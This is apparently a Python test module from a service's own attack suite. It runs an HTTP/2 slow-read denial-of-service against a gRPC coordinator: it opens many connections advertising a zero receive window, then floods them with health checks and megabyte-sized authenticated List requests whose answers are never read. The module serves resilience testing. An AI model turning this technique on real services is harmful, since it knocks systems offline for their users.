"""Answers that are not read: of health, which needs no credential, and pages of a megabyte that a valid token gets."""

from __future__ import annotations

import contextlib
import time

from coordinator import Client
from coordinator.v1 import service_pb2 as pb
from tests.attack.target import Setting, Target
from tests.attack.wire import PREFACE, SETTINGS, Connection, frame

SETTING = Setting()
CONNECTIONS, CHECKS, LISTS = 200, 120, 100
LIST, CHECK = "coordinator.v1.CoordinatorService/List", "grpc.health.v1.Health/Check"
_SECONDS = 3.0


def attack(target: Target, share: float) -> str:
    with Client(target.endpoint, token_file=target.token_file, timeout=30) as client:
        client.claim_many("normal-filler", [f"task:{number}" for number in range(70)], note="x" * 16_000)
    connections = max(10, round(CONNECTIONS * share))
    page = pb.ListRequest(page_size=1000).SerializeToString()
    with contextlib.ExitStack() as stack:
        for number in range(connections):
            with contextlib.suppress(OSError):
                connection = stack.enter_context(unread(target))
                if number % 10:
                    for _ in range(CHECKS):
                        connection.call(CHECK, b"")
                    continue
                for _ in range(LISTS):
                    connection.call(LIST, page, ("authorization", f"Bearer {target.token}"))
        time.sleep(max(1.0, _SECONDS * share))
    return f"{connections} connections that read nothing"


def unread(target: Target) -> Connection:
    """Connect as one that reads no answer: it gives no room for any (RFC 9113, 6.5.2)."""
    connection = Connection(target.endpoint, greet=False)
    connection.send(PREFACE + frame(SETTINGS, 0, 0, b"\0\1\0\0\0\0" + b"\0\4\0\0\0\0"))
    connection.settle()
    return connection
